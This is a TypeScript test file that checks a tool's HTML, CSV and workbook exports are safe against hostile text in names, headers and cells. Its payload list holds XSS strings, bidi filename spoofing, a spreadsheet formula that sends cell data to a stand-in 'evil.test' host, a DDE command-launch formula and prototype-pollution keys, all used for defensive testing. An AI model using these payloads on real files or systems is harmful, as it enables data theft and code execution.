/** Every text that somebody else may write, in every output, on every payload. Numbers and shapes are tested elsewhere. */
import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { buildOutputs, OUTPUT_CHOICES } from './build-outputs.ts'
import { EXAMPLE_24H, EXCLUDED_48H, outputContext, withFit } from './output-fixture.ts'
import type { OutputContext } from './types.ts'
import { workbookBytes } from './workbook.ts'

const PAYLOADS: readonly (readonly [string, string])[] = [
  ['script', '</title></style></text><script>alert(1)</script><img src=x onerror="alert(1)">'],
  ['attribute', '"\' onload="alert(1)" x=\''],
  ['direction', 'a\u202ecod.exe\u2066b\u061cc'],
  ['control', 'a\u0000b\u0007c\u001b[2Jd\u009be\r\nf'],
  ['formula', '=HYPERLINK("https://evil.test?"&A1)'],
  ['formula after blanks', " \t=cmd|'/C calc'!A0"],
  ['formula by a sign', '-2+SUM(A1)'],
  ['formula by at', '@SUM(1)'],
  ['prototype', '__proto__'],
  ['constructor', 'constructor'],
  ['separators', 'a,"b"\n"c";d\r,e'],
]

/** In the place of names, headers, cells, units, reasons, authors and titles. */
function contextOf(hostile: string): OutputContext {
  const curves = [EXAMPLE_24H, EXCLUDED_48H].map((fitted, n) => ({
    ...withFit(fitted, {}),
    curve: {
      ...fitted.curve,
      id: `${hostile}|${n}`,
      label: hostile,
      groupValues: [hostile],
      badCells: [{ row: 3, column: 2, text: hostile, problem: 'not-a-number' as const }],
    },
    cell: hostile,
    responseHeader: hostile,
    responseUnit: hostile,
    constraintText: hostile,
    policyTitle: hostile,
  }))
  const exclusion = {
    row: 10,
    responseColumn: 3,
    cause: 'hand' as const,
    reason: hostile,
    author: hostile,
    at: hostile,
  }
  const column = {
    ...{ displayName: hostile, typeName: 'String' as const },
    ...{
      numbers: new Float64Array(21).fill(Number.NaN),
      codes: new Uint32Array(21).fill(2),
      dictionary: [hostile],
    },
  }
  return {
    ...outputContext(curves),
    frameName: hostile,
    analysisId: hostile,
    exclusions: [exclusion],
    frame: { rowCount: 21, columns: [column, column, column, column] },
  }
}

const ALL = OUTPUT_CHOICES.map(({ id }) => id)
/** What a spreadsheet runs, after the blanks it passes over. */
const RUNS = /^\s*(?:=|[+@-](?=[^]*(?:[A-Za-z]\(|\||!)))/
const DIRECTION_OR_CONTROL =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/
/** A tag as ours are written: every value in double quotes, in which no tag can begin. */
const TAG = /^<(?:!doctype html|\/[a-zA-Z]\w*|[a-zA-Z]\w*(?:\s+[\w:-]+(?:="[^"<]*")?)*\s*\/?)>$/
const HANDLER = /\son\w+/i
const bare = (tag: string) => tag.replaceAll(/"[^"]*"/g, '')

describe.each(PAYLOADS)('texts with %s', (_, hostile) => {
  const outputs = buildOutputs(contextOf(hostile), ALL, {})

  it('are in every output that is built here', () => {
    expect(outputs.map(({ id }) => id)).toEqual([
      'results',
      'report-html',
      'points',
      'cleaned',
      'curves-html',
      'methods',
    ])
  })

  it('give names that are safe in a folder, an address and a list', () => {
    for (const { fileName, name } of outputs) {
      expect(fileName).toMatch(/^[a-z0-9][a-z0-9.-]*$/)
      expect(name).not.toMatch(DIRECTION_OR_CONTROL)
    }
  })

  const ending = (end: string) =>
    outputs
      .filter(({ fileName }) => fileName.endsWith(end))
      .map(({ id, bytes }) => ({ id, text: strFromU8(bytes) }))

  it('run nothing in a page that is opened from the disk', () => {
    const odd = ending('.html').flatMap(({ id, text }) => [
      ...(text.match(/<[^>]*>/g) ?? []).filter((tag) => !TAG.test(tag) || HANDLER.test(bare(tag))),
      ...(text.match(/<(?:script|img|iframe|object|a)\b/gi) ?? []),
      ...(DIRECTION_OR_CONTROL.test(text) ? [`a mark in ${id}`] : []),
    ])
    expect(odd).toEqual([])
  })

  it('are no formula in a cell or header of a CSV, and move no cell', () => {
    const odd = ending('.csv').flatMap(({ id, text }) => {
      const { data, errors } = Papa.parse<string[]>(text, { newline: '\n', skipEmptyLines: true })
      const widths = new Set(data.map((row) => row.length))
      return [
        ...errors.map(({ message }) => message),
        ...data.flat().filter((cell) => RUNS.test(cell) && Number.isNaN(Number(cell))),
        ...(widths.size === 1 && !text.includes('\u0000') ? [] : [`${id} is no table`]),
      ]
    })
    expect(odd).toEqual([])
  })

  it('are texts in a workbook, and its parts are XML', async () => {
    const parts = Object.entries(unzipSync(await workbookBytes(contextOf(hostile))))
    const odd = parts.flatMap(([name, part]) => [
      ...(/^[\w./[\]-]+$/.test(name) ? [] : [name]),
      ...(strFromU8(part).match(
        /<f[ >]|<script|<img|[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g,
      ) ?? []),
    ])
    expect(parts.length).toBeGreaterThan(4)
    expect(odd).toEqual([])
  })
})

it('leaves the prototype of objects alone', () => {
  buildOutputs(contextOf('__proto__'), ALL, {})
  expect(Object.keys(Object.prototype)).toEqual([])
  expect(({} as Record<string, unknown>)['label']).toBeUndefined()
})
